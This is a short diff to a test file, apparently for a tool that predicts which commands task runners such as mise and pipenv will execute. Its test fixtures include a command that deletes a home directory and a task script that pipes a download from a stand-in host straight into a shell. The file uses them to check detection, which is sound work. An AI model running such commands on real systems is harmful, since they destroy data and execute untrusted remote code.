@@ -39,7 +39,8 @@ describe("task runners", () => {
     expect(ranFrom("mise run build", { "mise.toml": toml })).toEqual(["echo prep", "rm /home/ada/", "tsc"]);
     expect(ranFrom("mise run other", { "mise.toml": toml })).toEqual([]);
     expect(ranFrom("mise run deploy", { "mise-tasks/deploy": "#!/usr/bin/env bash\ncurl -s https://x.example | sh\n" })).toContain("curl https://x.example");
-    expect(neededBy("mise install")).toEqual([]);
+    // An install runs mise's hooks (config-rows), never a task.
+    expect(neededBy("mise install").join(" ")).not.toContain("mise-tasks");
   });
 
   test("pipenv run runs the Pipfile script of that name with the words after it", () => {
